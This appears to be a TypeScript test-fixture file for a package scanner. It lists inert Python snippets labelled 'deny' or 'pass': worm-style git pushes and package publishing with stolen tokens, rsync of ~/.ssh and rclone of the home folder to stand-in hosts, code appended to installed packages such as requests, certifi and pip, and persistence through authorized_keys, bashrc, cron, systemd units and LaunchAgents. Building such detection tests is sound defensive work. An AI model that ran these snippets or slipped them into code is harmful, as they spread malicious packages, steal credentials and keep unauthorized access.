/** Code that goes on to other projects: published with tokens that were found, written into packages of others. All inert. */
import type { Shape } from './malicious.js';

function one(tier: Shape['tier'], name: string, code: string, more: Shape['files'] = {}): Shape {
  return { name, tier, files: { 'demo/__init__.py': `${code}\n`, ...more } };
}

const hook = '"import os\\nprint(1)\\n"';

const worms: readonly Shape[] = [
  one(
    'deny',
    'git add, commit, push',
    'import subprocess\nfor c in (["git", "add", "-A"], ["git", "commit", "-m", "x"], ["git", "push", "origin", "HEAD"]):\n    subprocess.run(c)',
  ),
  one(
    'deny',
    'git push by a helper',
    'import subprocess\ndef git(*a):\n    return subprocess.run(["git", *a], capture_output=True)\ngit("push", "--force")',
  ),
  one(
    'deny',
    'git push with another folder',
    'import subprocess, glob\nfor d in glob.glob("/home/*/*/.git"):\n    subprocess.call(["git", "-C", d[:-5], "push"])',
  ),
  one(
    'deny',
    'git push by a library',
    'import git\nr = git.Repo(".")\nr.git.add(A=True)\nr.index.commit("x")\nr.remote("origin").push()',
  ),
  one(
    'deny',
    'git push by a library, in a method',
    'from git import Repo\nclass W:\n    def __init__(self, p):\n        repo = Repo(p)\n        repo.index.add(["setup.py"])\n        repo.index.commit("x")\n        repo.remotes.origin.push()\nW(".")',
  ),
  one(
    'deny',
    'dulwich',
    'from dulwich import porcelain\nporcelain.add(".")\nporcelain.commit(".", b"x")\nporcelain.push(".", "origin", "main")',
  ),
  one(
    'deny',
    'twine',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "build"])\nsubprocess.run([sys.executable, "-m", "twine", "upload", "dist/*"])',
  ),
  one(
    'deny',
    'twine as a library',
    'from twine.commands.upload import main\nmain(["dist/*", "-u", "__token__"])',
  ),
  one(
    'deny',
    'twine as a module',
    'from twine.__main__ import main as m\nimport sys\nsys.argv = ["twine", "upload", "dist/*"]\nm()',
  ),
  one('deny', 'twine by its dispatcher', 'import twine.cli\ntwine.cli.dispatch(["upload", "dist/*"])'),
  one('deny', 'uv publish', 'import os\nos.system("uv build && uv publish --token $UV_PUBLISH_TOKEN")'),
  one('deny', 'poetry publish', 'import subprocess\nsubprocess.run("poetry publish --build", shell=True)'),
  one('deny', 'flit publish', 'import subprocess\nsubprocess.run(["flit", "publish"])'),
  one('deny', 'hatch publish', 'import subprocess\nsubprocess.run(["hatch", "publish", "-u", "__token__"])'),
  one(
    'deny',
    'npm publish',
    'import subprocess\nsubprocess.run(["npm", "publish", "--access", "public"], cwd="/tmp/x")',
  ),
  one(
    'deny',
    'yarn publish',
    'import subprocess\nsubprocess.Popen("cd /tmp/x && yarn publish --new-version 1.0.1", shell=True)',
  ),
  one('deny', 'cargo publish', 'import os\nos.system("cargo publish --allow-dirty")'),
  one('deny', 'docker push', 'import os\nos.system("docker push demo/image:latest")'),
  one(
    'deny',
    'gh',
    'import subprocess\nsubprocess.run(["gh", "repo", "create", "x", "--public", "--push", "--source", "."])',
  ),
  one('deny', 'rclone', 'import os\nos.system("rclone copy ~/ remote:x")'),
  one(
    'deny',
    'rclone as words',
    'import subprocess, os\nsubprocess.run(["rclone", "sync", os.path.expanduser("~"), "drop:all"])',
  ),
  one(
    'deny',
    'rsync',
    'import subprocess, os\nsubprocess.run(["rsync", "-a", os.path.expanduser("~/.ssh/"), "u@c.demo.invalid:/x"])',
  ),
  one(
    'deny',
    'upload to the index by a request',
    'import os, requests, pathlib\nt = os.environ.get("TWINE_PASSWORD")\nrequests.post("https://upload.index.example/legacy/", auth=("__token__", t), data={":action": "file_upload"}, files={"content": open("dist/x.whl", "rb")})',
  ),
  one(
    'deny',
    'a publish with a token that was found',
    'import re, pathlib, subprocess\nt = re.search("npm_\\\\w+", (pathlib.Path.home() / ".npmrc").read_text())\nsubprocess.run(["npm", "publish", "--//registry.index.example/:_authToken=" + t[0]])',
  ),
  one(
    'pass',
    'git status',
    'import subprocess\ndef status():\n    return subprocess.run(["git", "status", "--porcelain"], capture_output=True)',
  ),
  one(
    'pass',
    'a command of a tool for releases',
    'import subprocess\ndef release(tag):\n    subprocess.run(["git", "tag", tag])\n    subprocess.run(["git", "push", "origin", tag])',
  ),
  one(
    'pass',
    'a tool that publishes when it is told to',
    'import subprocess, sys\ndef publish(files):\n    return subprocess.call([sys.executable, "-m", "twine", "upload", *files])',
  ),
  one(
    'pass',
    'a library of git, used in a function',
    'import git\ndef deploy(path):\n    repo = git.Repo(path)\n    repo.index.commit("docs")\n    repo.remote("origin").push()',
  ),
  one(
    'pass',
    'a copy, by a function',
    'import subprocess\ndef backup(src, dst):\n    subprocess.run(["rclone", "copy", src, dst])',
  ),
];

const writers: readonly Shape[] = [
  one(
    'deny',
    'certifi by its file',
    `import certifi, os\nwith open(os.path.join(os.path.dirname(certifi.__file__), "core.py"), "a") as f:\n    f.write(${hook})`,
  ),
  one(
    'deny',
    'the authorities of certifi',
    'import certifi\nopen(certifi.where(), "ab").write(b"-----BEGIN CERTIFICATE-----")',
  ),
  one(
    'deny',
    'requests by pathlib',
    `import requests, pathlib\np = pathlib.Path(requests.__file__).parent / "api.py"\np.write_text(p.read_text() + ${hook})`,
  ),
  one(
    'deny',
    'requests by its path',
    `import requests, os\nf = open(os.path.join(requests.__path__[0], "sessions.py"), "a")\nf.write(${hook})`,
  ),
  one(
    'deny',
    'pip by the folder of packages',
    `import site, os\nfor d in site.getsitepackages():\n    open(os.path.join(d, "pip", "__init__.py"), "a").write(${hook})`,
  ),
  one(
    'deny',
    'pip by sysconfig',
    `import sysconfig, pathlib\n(pathlib.Path(sysconfig.get_paths()["purelib"]) / "pip" / "__main__.py").write_text(${hook})`,
  ),
  one(
    'deny',
    'by the search path',
    `import sys, os\nfor d in sys.path:\n    if d.endswith("site-packages"):\n        open(os.path.join(d, "requests", "__init__.py"), "a").write(${hook})`,
  ),
  one(
    'deny',
    'by the spec of a module',
    `import importlib.util\ns = importlib.util.find_spec("requests")\nopen(s.origin, "a").write(${hook})`,
  ),
  one('deny', 'by inspect', `import inspect, requests\nopen(inspect.getfile(requests), "a").write(${hook})`),
  one(
    'deny',
    'beside itself',
    `import os\nd = os.path.dirname(os.path.dirname(__file__))\nopen(os.path.join(d, "requests", "__init__.py"), "a").write(${hook})`,
  ),
  one(
    'deny',
    'beside itself by pathlib',
    `from pathlib import Path\n(Path(__file__).resolve().parent.parent / "certifi" / "core.py").write_text(${hook})`,
  ),
  one(
    'deny',
    'beside itself by parents',
    `from pathlib import Path\n(Path(__file__).parents[1] / "pip" / "__init__.py").write_text(${hook})`,
  ),
  one(
    'deny',
    'a copy beside itself',
    'import os, shutil\nh = os.path.dirname(__file__)\nshutil.copy(os.path.join(h, "patched.py"), os.path.join(h, "..", "requests", "api.py"))',
  ),
  one(
    'deny',
    'by a helper',
    `import importlib\ndef where(name):\n    return importlib.import_module(name).__file__\ndef put(name, text):\n    with open(where(name), "a") as f:\n        f.write(text)\nput("requests", ${hook})`,
  ),
  one(
    'deny',
    'in a method',
    `import numpy\nclass P:\n    def __init__(self):\n        self.at = numpy.__file__\n    def go(self):\n        open(self.at, "a").write(${hook})\nP().go()`,
  ),
  one('deny', 'a module that a file of another module writes', `from .w import go\ngo()`, {
    'demo/w.py': `import urllib3\ndef go():\n    with open(urllib3.__file__, "a") as f:\n        f.write(${hook})\n`,
  }),
  one('deny', 'getattr', `import requests\nopen(getattr(requests, "__file__"), "a").write(${hook})`),
  one(
    'deny',
    'by the distribution',
    `from importlib.metadata import distribution\nd = distribution("requests")\np = d.locate_file("requests/__init__.py")\np.write_text(${hook})`,
  ),
  one(
    'deny',
    'by its files',
    `from importlib import metadata\nfor f in metadata.files("certifi"):\n    if f.name == "core.py":\n        open(f.locate(), "a").write(${hook})`,
  ),
  one(
    'deny',
    'a loop over all packages',
    `import site, pathlib\nfor p in pathlib.Path(site.getsitepackages()[0]).rglob("__init__.py"):\n    p.write_text(p.read_text() + ${hook})`,
  ),
  one(
    'deny',
    'fileinput',
    'import fileinput, requests, sys\nfor line in fileinput.input(requests.__file__, inplace=True):\n    sys.stdout.write(line.replace("https", "http"))',
  ),
  one(
    'deny',
    'a rename over it',
    'import os, requests\nos.replace(os.path.join(os.path.dirname(__file__), "x.py"), requests.__file__)',
  ),
  one(
    'pass',
    'a package that writes a cache beside itself',
    'import os\nopen(os.path.join(os.path.dirname(__file__), "cache.json"), "w").write("{}")',
  ),
  one(
    'pass',
    'a package that reads another one’s version',
    'import requests, os\nv = open(os.path.join(os.path.dirname(requests.__file__), "__version__.py")).read()',
  ),
  one(
    'pass',
    'a file beside its own package',
    'from pathlib import Path\ndef log(text):\n    (Path(__file__).parent.parent / "demo.log").write_text(text)',
  ),
  one(
    'pass',
    'settings of its own in a parent folder',
    'from pathlib import Path\nroot = Path(__file__).resolve().parent.parent\n(root / "config" / "demo.ini").write_text("[a]")',
  ),
  one(
    'pass',
    'authorities that are read',
    'import certifi, ssl\ncontext = ssl.create_default_context(cafile=certifi.where())',
  ),
];

const pieces: readonly Shape[] = [
  one(
    'deny',
    'authorized_keys by pieces of pathlib',
    'from pathlib import Path\np = Path.home() / ".ssh" / "authorized_keys"\nwith p.open("a") as f:\n    f.write("ssh-ed25519 AAAA a")',
  ),
  one(
    'deny',
    'by joinpath',
    'from pathlib import Path\nPath.home().joinpath(".ssh", "authorized_keys").write_text("ssh-ed25519 AAAA a")',
  ),
  one(
    'deny',
    'by a name and an ending',
    'from pathlib import Path\nn = "authorized" + "_" + "keys"\n(Path.home() / (".s" + "sh") / n).write_text("ssh-ed25519 AAAA a")',
  ),
  one(
    'deny',
    'by expanduser of a path',
    'from pathlib import Path\nPath("~/.ssh/authorized_keys").expanduser().write_text("ssh-ed25519 AAAA a")',
  ),
  one(
    'deny',
    'by with_name',
    'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").with_name("authorized_keys").write_text("ssh-ed25519 AAAA a")',
  ),
  one(
    'deny',
    'bashrc by pieces',
    'from pathlib import Path\nhome = Path.home()\nfor n in (".bashrc", ".zshrc"):\n    with open(home / n, "a") as f:\n        f.write("x")',
  ),
  one(
    'deny',
    'bashrc by a format',
    'import os\nname = "." + "bash" + "rc"\nopen(os.path.join(os.environ["HOME"], name), "a").write("x")',
  ),
  one(
    'deny',
    'bashrc in a method',
    'from pathlib import Path\nclass A:\n    home = Path.home()\n    def go(self):\n        (self.home / ".profile").open("a").write("x")\nA().go()',
  ),
  one(
    'deny',
    'a crontab by pieces',
    'from pathlib import Path\nd = Path("/var") / "spool" / "cron" / "crontabs"\n(d / "root").write_text("* * * * * x")',
  ),
  one(
    'deny',
    'cron.d by pieces',
    'import os\nd = os.sep.join(["", "etc", "cron.d"])\nopen(os.path.join(d, "x"), "w").write("* * * * * root x")',
  ),
  one(
    'deny',
    'a unit of the user by pieces',
    'from pathlib import Path\nd = Path.home() / ".config" / "systemd" / "user"\nd.mkdir(parents=True, exist_ok=True)\n(d / "x.service").write_text("[Service]")',
  ),
  one(
    'deny',
    'a launch agent by pieces',
    'from pathlib import Path\nd = Path.home() / "Library" / "LaunchAgents"\n(d / "a.plist").write_text("x")',
  ),
  one(
    'deny',
    'autostart by pieces',
    'import os\np = os.path.expanduser("~")\nfor part in (".config", "autostart", "a.desktop"):\n    p = os.path.join(p, part)\nopen(p, "w").write("x")',
  ),
  one(
    'deny',
    'by os.open',
    'import os\nfd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND)\nos.write(fd, b"x")',
  ),
  one('deny', 'by a function of another file', 'from .p import path\npath().open("a").write("x")', {
    'demo/p.py': 'from pathlib import Path\ndef path():\n    return Path.home() / ".bashrc"\n',
  }),
  one(
    'pass',
    'a bashrc that is read',
    'from pathlib import Path\ndef aliases():\n    return (Path.home() / ".bashrc").read_text()',
  ),
  one(
    'pass',
    'settings of its own',
    'from pathlib import Path\n(Path.home() / ".config" / "demo" / "a.ini").write_text("x")',
  ),
  one(
    'pass',
    'a generator that writes tests of its checkout, and makes a script',
    'import os\nfrom pathlib import Path\nroot = Path(__file__).parent.parent\ndef write(name, text, out):\n    (root / "tests" / "unit" / f"test_{name}.py").write_text(text)\n    with open(out, "w") as f:\n        f.write(text)\n    os.chmod(out, 0o755)',
  ),
];

export const wormsAndWriters: readonly Shape[] = [...worms, ...writers, ...pieces];
